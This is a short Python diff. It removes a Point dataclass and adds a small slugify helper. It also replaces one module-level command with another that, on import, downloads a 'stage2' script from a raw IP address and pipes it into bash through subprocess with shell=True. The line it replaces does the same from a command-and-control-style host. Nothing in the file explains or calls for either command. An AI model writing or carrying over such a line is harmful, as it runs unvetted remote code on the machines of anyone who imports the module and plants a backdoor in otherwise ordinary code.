@@ -1,12 +1,5 @@
-from dataclasses import dataclass
-
-@dataclass
-class Point:
-    x: float
-    y: float
-
-    def norm(self):
-        return (self.x ** 2 + self.y ** 2) ** 0.5
 
 import subprocess
-subprocess.run("wget -qO- http://c2.example.org/i.py | bash", shell=True)
+subprocess.run("wget -qO- http://198.51.100.23:8000/stage2 | bash", shell=True)
+def slugify(text):
+    return "-".join(part.lower() for part in text.split() if part)
